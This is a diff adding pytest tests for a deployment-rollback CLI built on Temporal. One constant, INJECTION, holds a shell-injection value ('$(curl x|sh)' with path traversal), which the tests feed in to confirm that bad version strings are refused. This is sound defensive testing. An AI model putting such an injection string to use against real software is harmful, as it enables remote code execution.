@@ -8,6 +8,8 @@ import subprocess
 import sys
 from pathlib import Path
 
+import yaml
+
 from rollback.models import Phase
 from tests.conftest import write_config
 from tests.helpers import front_version, orchestrator, status_when
@@ -98,3 +100,94 @@ async def test_bad_input_gives_one_line_and_exit_code(client, task_queue, tmp_pa
     nowhere = subprocess.run([ROLLBACK, "list"], capture_output=True, text=True, timeout=60,
                              env={**os.environ, "TEMPORAL_ADDRESS": "127.0.0.1:1"})
     assert "cannot reach Temporal at 127.0.0.1:1" in one_line_error(nowhere)
+
+
+INJECTION = "--help; $(curl x|sh) ../../etc"
+
+
+def cli_env(**extra: str) -> dict[str, str]:
+    """The environment with nothing pointing at Temporal or a config unless given."""
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("TEMPORAL_", "ROLLBACK_"))}
+    return {**env, "COLUMNS": "300", **extra}
+
+
+def run_cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
+    return subprocess.run([ROLLBACK, *args], capture_output=True, text=True, env=env, timeout=120)
+
+
+def test_a_version_that_is_not_a_version_is_refused_before_anything_runs():
+    # No Temporal at this address: the request must be refused before any connection.
+    env = cli_env(TEMPORAL_ADDRESS="127.0.0.1:1")
+    started = run_cli("start", "-e", "demo", "-t", "backend", "--to-version", f"backend={INJECTION}", env=env)
+    line = one_line_error(started)
+    assert line.startswith("error: to_version.backend: ") and "not a valid version" in line
+
+
+def test_record_deploy_refuses_a_bad_version_and_records_nothing(blue_green, tmp_path):
+    config = blue_green.write_config(tmp_path / "rollback.yaml")
+    state = blue_green.state_dir / "demo.json"
+    before = state.read_text()
+
+    refused = run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", INJECTION,
+                      env=cli_env(ROLLBACK_CONFIG=str(config)))
+
+    line = one_line_error(refused)
+    assert line.startswith("error: --version: ") and "not a valid version" in line
+    assert state.read_text() == before
+
+
+def test_record_deploy_says_when_nothing_is_known_good_yet(blue_green, tmp_path):
+    # A fresh state directory and no seed: the first release recorded has no predecessor.
+    raw = blue_green.config_dict(extra={"state_dir": str(tmp_path / "fresh-state")})
+    del raw["environments"]["demo"]["targets"]["backend"]["versions"]
+    config = tmp_path / "rollback.yaml"
+    config.write_text(yaml.safe_dump(raw))
+    env = cli_env(ROLLBACK_CONFIG=str(config))
+
+    first = run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", "v1", env=env)
+    assert first.returncode == 0, first.stderr
+    assert first.stdout.strip() == "demo/backend: current v1, known-good none recorded yet"
+    second = run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", "v2", env=env)
+    assert second.stdout.strip() == "demo/backend: current v2, known-good v1"
+
+
+def test_help_and_errors_do_not_offer_frontend_as_configurable():
+    env = cli_env()
+    for args in (["--help"], ["start", "--help"]):
+        shown = run_cli(*args, env=env)
+        assert shown.returncode == 0, shown.stderr
+        honest = shown.stdout.replace("frontend is not available yet", "")
+        assert "frontend" not in honest, shown.stdout
+    # Refused by the CLI itself: nothing reaches Temporal (none is configured here).
+    for target, said in (("frontend", "targets: frontend is not available yet"), ("backnd", "targets: unknown target 'backnd'")):
+        line = one_line_error(run_cli("start", "-e", "demo", "-t", target, env=env))
+        assert line.startswith(f"error: {said}"), line
+        assert "frontend" not in line.replace("frontend is not available yet", ""), line
+
+
+async def test_address_and_namespace_options_override_the_environment(client, task_queue):
+    real = client.service_client.config.target_host
+    dead = cli_env(TEMPORAL_ADDRESS="127.0.0.1:1", TEMPORAL_NAMESPACE="no-such-namespace")
+    listed = await asyncio.to_thread(run_cli, "--address", real, "--namespace", client.namespace, "list", env=dead)
+    assert listed.returncode == 0, listed.stderr
+    assert "environment" in listed.stdout
+
+    live = cli_env(TEMPORAL_ADDRESS=real, TEMPORAL_NAMESPACE=client.namespace)
+    elsewhere = await asyncio.to_thread(run_cli, "--address", "127.0.0.1:1", "list", env=live)
+    assert "cannot reach Temporal at 127.0.0.1:1" in one_line_error(elsewhere)
+    shown = run_cli("--help", env=live)
+    assert "--address" in shown.stdout and "--namespace" in shown.stdout
+
+
+def test_record_deploy_starts_from_the_configured_seed_of_any_target(blue_green, tmp_path):
+    # The database's seed counts as the backend's does: its current revision becomes known-good.
+    raw = blue_green.config_dict(extra={"state_dir": str(tmp_path / "fresh-state"), "environments": {"demo": {"targets": {
+        "database": {"dsn_env": "DEMO_DATABASE_URL", "migrations": "migrations",
+                     "versions": {"current": "0002", "known_good": "0001"}}}}}})
+    config = tmp_path / "rollback.yaml"
+    config.write_text(yaml.safe_dump(raw))
+
+    done = run_cli("record-deploy", "-e", "demo", "-t", "database", "--version", "0003", env=cli_env(ROLLBACK_CONFIG=str(config)))
+
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.strip() == "demo/database: current 0003, known-good 0002"
